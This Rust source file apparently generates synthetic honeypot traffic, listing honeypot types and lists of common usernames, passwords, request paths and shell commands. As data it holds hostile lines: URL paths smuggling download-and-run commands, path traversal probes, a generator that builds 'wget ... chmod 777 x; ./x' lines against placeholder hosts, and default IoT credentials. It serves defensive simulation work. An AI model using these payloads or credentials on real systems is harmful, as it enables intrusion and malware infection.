//! With what: categories, names, passwords, requests, commands, files.

use palisade_event::{Category, EventKind, SensorId};

use super::{SENSORS, mix, zipf};

const USERS: u64 = 5_000;
const PASSWORDS: u64 = 50_000;
const PATHS: u64 = 4_000;
const COMMANDS: u64 = 8_000;

/// Words that only few events of a month have, one event in [`RARE_EVERY`].
pub(crate) const RARE: &[&str] = &["kinsing", "xorddos", "kaiten", "tsunami8", "gitpaste"];
pub(super) const RARE_EVERY: u64 = 100_000;

/// What a kind of honeypot sees in a session.
#[derive(Clone, Copy)]
pub(super) enum Flow {
    /// Logins, then commands.
    Shell,
    /// Logins alone.
    Login,
    /// Requests to a web server.
    Web,
    /// Bytes of some protocol.
    Data,
    /// A connection and nothing else.
    Probe,
}

impl Flow {
    pub(super) fn kind(self, step: u64, last: bool, length: u64) -> EventKind {
        match (self, step) {
            (Self::Web, _) => EventKind::HttpRequested,
            (Self::Login, _) => EventKind::AuthAttempted,
            (Self::Data, _) => EventKind::DataReceived,
            (_, 0) => EventKind::ConnectionOpened,
            (_, _) if last => EventKind::SessionClosed,
            (Self::Probe, _) => EventKind::ConnectionProbed,
            (Self::Shell, step) if length < 10 && step > 2 => EventKind::CommandEntered,
            (Self::Shell, _) => EventKind::AuthAttempted,
        }
    }
}

/// A type of honeypot.
pub(super) struct Kind {
    name: &'static str,
    pub(super) flow: Flow,
    /// Its port; 0 for any.
    pub(super) port: u16,
    pub(super) udp: Udp,
}

/// Whether it speaks UDP.
#[derive(Clone, Copy, PartialEq)]
pub(super) enum Udp {
    No,
    Yes,
}

const fn kind(name: &'static str, flow: Flow, port: u16) -> Kind {
    Kind { name, flow, port, udp: Udp::No }
}

/// The types of T-Pot's community and some of our own, most attacks first.
pub(super) const CATEGORIES: &[Kind] = &[
    kind("SSH/console(cowrie)", Flow::Shell, 22),
    kind("SMB(dionaea)", Flow::Data, 445),
    kind("Network(honeytrap)", Flow::Data, 0),
    kind("Telnet/console(cowrie)", Flow::Shell, 23),
    kind("SSH/login(sshd)", Flow::Login, 22),
    kind("Webpage(tanner)", Flow::Web, 80),
    kind("VNC(heralding)", Flow::Login, 5900),
    kind("RDP(rdpy)", Flow::Login, 3389),
    kind("Passwords(heralding)", Flow::Login, 1080),
    kind("Telnet(palisade)", Flow::Shell, 23),
    kind("Webpage(palisade)", Flow::Web, 8080),
    Kind { name: "SIP(sentrypeer)", flow: Flow::Data, port: 5060, udp: Udp::Yes },
    kind("MSSQL(dionaea)", Flow::Login, 1433),
    kind("ADB(adbhoney)", Flow::Shell, 5555),
    kind("Redis(redishoneypot)", Flow::Data, 6379),
    kind("Mail(mailoney)", Flow::Data, 25),
    kind("MySQL(dionaea)", Flow::Login, 3306),
    kind("FTP(dionaea)", Flow::Login, 21),
    kind("Webpage(nginx)", Flow::Web, 443),
    kind("Industrial(conpot)", Flow::Data, 502),
    Kind { name: "DDoS(ddospot)", flow: Flow::Probe, port: 123, udp: Udp::Yes },
    kind("Elasticsearch(elasticpot)", Flow::Web, 9200),
    kind("Printer(ipphoney)", Flow::Web, 631),
    kind("Citrix(citrixhoneypot)", Flow::Web, 443),
    kind("Cisco-ASA(ciscoasa)", Flow::Web, 8443),
    kind("Log4j(log4pot)", Flow::Web, 8080),
    kind("PostgreSQL(heralding)", Flow::Login, 5432),
    kind("Medical(medpot)", Flow::Data, 2575),
    kind("Medical(dicompot)", Flow::Data, 11112),
    kind("IMAP(heralding)", Flow::Login, 143),
    kind("Hellpot", Flow::Web, 80),
    Kind { name: "SNMP(conpot)", flow: Flow::Data, port: 161, udp: Udp::Yes },
];

#[rustfmt::skip]
const COMMON_USERS: &[&str] = &[
    "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "git", "pi", "guest", "support", "ubnt",
    "sa", "ftp", "mysql", "hadoop", "deploy", "nagios", "jenkins", "www-data", "administrator", "debian",
    "centos", "ec2-user", "minecraft", "tomcat", "dev", "steam", "sol", "solana", "validator", "docker",
];
#[rustfmt::skip]
const COMMON_PASSWORDS: &[&str] = &[
    "123456", "admin", "password", "root", "1234", "12345678", "qwerty", "toor", "ubnt", "raspberry", "111111",
    "P@ssw0rd", "123", "abc123", "1q2w3e4r", "admin123", "changeme", "test", "12345", "letmein", "vizxv",
    "xc3511", "7ujMko0admin", "Zte521", "hi3518", "jvbzd", "anko", "xmhdipc", "default", "support", "guest",
];
#[rustfmt::skip]
const COMMON_PATHS: &[&str] = &[
    "GET /", "GET /.env", "GET /wp-login.php", "POST /boaform/admin/formLogin", "GET /.git/config",
    "GET /robots.txt", "POST /cgi-bin/ViewLog.asp", "GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.66/jaws;sh+/tmp/jaws",
    "GET /actuator/health", "GET /phpmyadmin/index.php", "POST /HNAP1/", "GET /manager/html", "GET /favicon.ico",
    "GET /solr/admin/info/system?wt=json", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.66/Mozi.m",
    "GET /owa/auth/logon.aspx", "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "GET /login", "POST /api/jsonws/invoke", "GET /?XDEBUG_SESSION_START=phpstorm", "GET /.aws/credentials",
    "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
];
#[rustfmt::skip]
const COMMON_COMMANDS: &[&str] = &[
    "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "whoami", "w", "ls -lh $(which ls)",
    "crontab -l", "uname -s -v -n -r -m", "cat /etc/passwd", "enable", "system", "shell", "sh", "/bin/busybox ECCHI",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh", "echo -e \"admin\\nNewPass1\\nNewPass1\"|passwd|bash", "nproc", "top",
    "export PATH=/bin:/usr/bin:/sbin", "rm -rf /tmp/*; history -c", "lscpu | grep Model", "ifconfig", "ps -x",
];
const ARCHES: &[&str] = &["arm", "arm7", "mips", "mpsl", "x86", "ppc", "sh4", "i686"];
#[rustfmt::skip]
const NOUNS: &[&str] = &[
    "backup", "admin", "test", "old", "new", "shop", "blog", "api", "app", "data", "login", "portal", "web", "site",
    "cgi", "upload", "config", "panel", "user", "mail", "db", "sql", "dev", "stage", "console", "include", "lib", "tmp",
];

/// All texts, made once.
pub(super) struct Words {
    pub(super) sensors: Vec<SensorId>,
    pub(super) categories: Vec<Category>,
    users: Vec<Box<str>>,
    passwords: Vec<Box<str>>,
    paths: Vec<Box<str>>,
    commands: Vec<Box<str>>,
}

fn noun(random: u64) -> &'static str {
    NOUNS.get((random % NOUNS.len() as u64) as usize).copied().unwrap_or_default()
}

/// The common texts, and more of the same kind up to `count`.
fn list(common: &[&str], count: u64, more: impl Fn(u64) -> String) -> Vec<Box<str>> {
    let rest = (common.len() as u64..count).map(|n| more(n).into());
    common.iter().map(|text| (*text).into()).chain(rest).collect()
}

impl Words {
    pub(super) fn new() -> anyhow::Result<Self> {
        let sensors = (0..SENSORS).map(|n| SensorId::new(&format!("tpot-{n:02}")));
        let categories = CATEGORIES.iter().map(|kind| Category::new(kind.name));
        Ok(Self {
            sensors: sensors.collect::<Result<_, _>>()?,
            categories: categories.collect::<Result<_, _>>()?,
            users: list(COMMON_USERS, USERS, |n| format!("{}{}", noun(mix(n, 21)), n % 700)),
            passwords: list(COMMON_PASSWORDS, PASSWORDS, |n| {
                format!("{}{}!{}", noun(mix(n, 22)), noun(mix(n, 23)), n)
            }),
            paths: list(COMMON_PATHS, PATHS, |n| {
                format!("GET /{}/{}{n}.php", noun(mix(n, 24)), noun(mix(n, 25)))
            }),
            commands: list(COMMON_COMMANDS, COMMANDS, |n| {
                let arch = ARCHES.get((n % 8) as usize).copied().unwrap_or_default();
                let (a, b) = (mix(n, 26) % 250, mix(n / 8, 27) % 250);
                format!(
                    "cd /tmp; wget http://203.0.113.{a}/bins/{}{b}.{arch} -O x; chmod 777 x; ./x",
                    noun(b)
                )
            }),
        })
    }

    pub(super) fn user(&self, random: u64) -> Option<&str> {
        self.users.get(zipf(random, USERS) as usize).map(AsRef::as_ref)
    }

    pub(super) fn password(&self, random: u64) -> Option<&str> {
        self.passwords.get(zipf(random, PASSWORDS) as usize).map(AsRef::as_ref)
    }

    pub(super) fn path(&self, random: u64) -> Option<&str> {
        self.paths.get(zipf(random, PATHS) as usize).map(AsRef::as_ref)
    }

    pub(super) fn command(&self, random: u64) -> Option<&str> {
        self.commands.get(zipf(random, COMMANDS) as usize).map(AsRef::as_ref)
    }
}
